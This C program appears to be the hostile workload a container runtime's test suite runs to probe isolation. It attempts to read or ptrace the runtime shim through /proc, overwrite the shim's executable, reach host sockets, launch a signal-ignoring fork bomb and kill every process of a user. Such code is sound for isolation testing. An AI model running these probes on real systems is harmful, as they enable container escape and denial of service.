/* What hostile images run. One command a purpose; each prints one line and ends within its own limit. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define LIMIT_SECONDS 20
#define BOMB_SECONDS 120
#define SHIM "nodelet-shim"

static time_t deadline;

static int over(void) { return time(NULL) >= deadline; }

/* Names of this process's descriptors beyond the first three. */
static int show_descriptors(void) {
  int count = 0;
  for (int fd = 3; fd < 4096; fd++) {
    struct stat info;
    if (fstat(fd, &info) == 0) count++;
  }
  printf("%d descriptors\n", count);
  return 0;
}

static int read_name(const char *pid, const char *file, char *into, size_t size) {
  char path[320];
  snprintf(path, sizeof path, "/proc/%s/%s", pid, file);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t got = read(fd, into, size - 1);
  close(fd);
  if (got <= 0) return -1;
  into[got] = 0;
  return 0;
}

static int opens(const char *pid, const char *file, int flags) {
  char path[320];
  snprintf(path, sizeof path, "/proc/%s/%s", pid, file);
  return open(path, flags | O_CLOEXEC);
}

/* True for a process that is still nodelet's own code. */
static int is_shim(const char *pid) {
  char name[32];
  return read_name(pid, "comm", name, sizeof name) == 0 && strncmp(name, SHIM, strlen(SHIM)) == 0;
}

/* By a process of its own, whose end lets go of what it traces. */
static int traces(const char *pid) {
  pid_t child = fork();
  if (child == 0) _exit(ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0 && is_shim(pid));
  int status = 0;
  waitpid(child, &status, 0);
  return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}

/* Tries to reach into whatever nodelet starts in this container: for as long as /stop is not there. */
static int reach(void) {
  /* What the kernel opens only for those who could trace the process. */
  static const char *const files[] = {"mem", "environ", "maps", "fd/0", "root", "exe"};
  int seen = 0;
  while (!over() && access("/stop", F_OK) != 0) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
      if (!isdigit((unsigned char)entry->d_name[0]) || atoi(entry->d_name) == getpid() || !is_shim(entry->d_name)) continue;
      seen++;
      for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        int fd = opens(entry->d_name, files[i], strcmp(files[i], "mem") == 0 ? O_RDWR : O_RDONLY);
        if (fd < 0) continue;
        if (is_shim(entry->d_name)) return printf("reached %s of the shim\n", files[i]), 0;
        close(fd);
      }
      if (traces(entry->d_name)) return printf("traced the shim\n"), 0;
    }
    closedir(proc);
  }
  printf(seen ? "saw the shim, reached nothing\n" : "saw no shim\n");
  return 0;
}

/* Waits for a process whose program is the shim's, and writes into that program once the process has gone. */
static int overwrite(void) {
  int program = -1;
  while (program < 0 && !over()) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; program < 0 && (entry = readdir(proc));) {
      char path[320], target[256];
      if (!isdigit((unsigned char)entry->d_name[0])) continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      ssize_t length = readlink(path, target, sizeof target - 1);
      if (length < 0) continue;
      target[length] = 0;
      if (strstr(target, SHIM)) program = opens(entry->d_name, "exe", O_RDONLY);
    }
    closedir(proc);
  }
  if (program < 0) return printf("found no program\n"), 0;
  char path[320];
  snprintf(path, sizeof path, "/proc/self/fd/%d", program);
  int seals = fcntl(program, F_GET_SEALS), error = 0;
  const char *sealed = seals >= 0 && (seals & F_SEAL_WRITE) ? "sealed" : "not sealed";
  /* Busy for as long as one process runs it. */
  for (int tries = 0; tries < 1000; tries++) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0 && write(fd, "overwritten", 11) == 11) return printf("overwrote a program that is %s\n", sealed), 0;
    error = errno;
    if (fd >= 0) close(fd);
    if (error != ETXTBSY) break;
    usleep(1000);
  }
  printf("found a program that is %s, could not write: %s\n", sealed, strerror(error));
  return 0;
}

/* Connects to the first listening abstract socket whose name holds the text. */
static int connect_abstract(const char *text) {
  FILE *table = fopen("/proc/net/unix", "r");
  char line[512];
  while (table && fgets(line, sizeof line, table)) {
    char *name = strchr(line, '@');
    if (!name || !strstr(name, text)) continue;
    name[strcspn(name, "\n")] = 0;
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(name + 1);
    memcpy(address.sun_path + 1, name + 1, length);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    /* /proc shows trailing NULs as @, and a name may have been bound with its whole array. */
    if (connect(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length)) == 0) {
      char byte;
      printf(recv(fd, &byte, 1, 0) == 1 ? "connected and answered\n" : "connected and not answered\n");
      return 0;
    }
  }
  printf("no abstract socket\n");
  return 0;
}

/* A connection to a socket in the file system, as a user; its directory first, as the path may be too long for an address. */
static int connected(char *path, const char *user) {
  if (setgid((gid_t)atoi(user)) != 0 || setuid((uid_t)atoi(user)) != 0) return perror("setuid"), -1;
  char *name = strrchr(path, '/');
  *name++ = 0;
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, name, sizeof address.sun_path - 1);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (chdir(path) == 0 && connect(fd, (struct sockaddr *)&address, sizeof address) == 0) return fd;
  printf("refused: %s\n", strerror(errno));
  return -1;
}

static int connect_path(char *path, const char *user) {
  int fd = connected(path, user);
  char byte;
  if (fd >= 0) printf(recv(fd, &byte, 1, 0) == 1 ? "connected and answered\n" : "connected and not answered\n");
  return 0;
}

/* Says something to a socket and shows what comes back. */
static int ask(char *path, const char *user, const char *words) {
  int fd = connected(path, user);
  if (fd < 0 || send(fd, words, strlen(words), MSG_NOSIGNAL) < 0) return 0;
  char bytes[4096];
  for (ssize_t got; (got = recv(fd, bytes, sizeof bytes, 0)) > 0;) fwrite(bytes, 1, (size_t)got, stdout);
  return 0;
}

/* Multiplies up to a number of the user's processes, and again whenever some are gone. */
static int bomb(const char *processes) {
  struct rlimit limit = {.rlim_cur = (rlim_t)atol(processes), .rlim_max = (rlim_t)atol(processes)};
  if (setrlimit(RLIMIT_NPROC, &limit) != 0) return 1;
  deadline = time(NULL) + BOMB_SECONDS;
  for (int signal = 1; signal < NSIG; signal++) sigaction(signal, &(struct sigaction){.sa_handler = SIG_IGN}, NULL);
  while (!over()) {
    pid_t pid = fork();
    if (pid == 0) setsid();
    if (pid < 0) usleep(100000);
  }
  return 0;
}

/* Ends all processes of a user of the host: none can fork once it has the signal. */
static int slay(const char *user) {
  if (setuid((uid_t)atol(user)) != 0) return 1;
  kill(-1, SIGKILL);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  deadline = time(NULL) + LIMIT_SECONDS;
  const char *command = argc > 1 ? argv[1] : "";
  if (strcmp(command, "descriptors") == 0) return show_descriptors();
  if (strcmp(command, "reach") == 0) return reach();
  if (strcmp(command, "overwrite") == 0) return overwrite();
  if (strcmp(command, "connect-abstract") == 0 && argc > 2) return connect_abstract(argv[2]);
  if (strcmp(command, "connect-path") == 0 && argc > 3) return connect_path(argv[2], argv[3]);
  if (strcmp(command, "ask") == 0 && argc > 4) return ask(argv[2], argv[3], argv[4]);
  if (strcmp(command, "bomb") == 0 && argc > 2) return bomb(argv[2]);
  if (strcmp(command, "slay") == 0 && argc > 2) return slay(argv[2]);
  fprintf(stderr, "usage: hostile COMMAND\n");
  return 2;
}
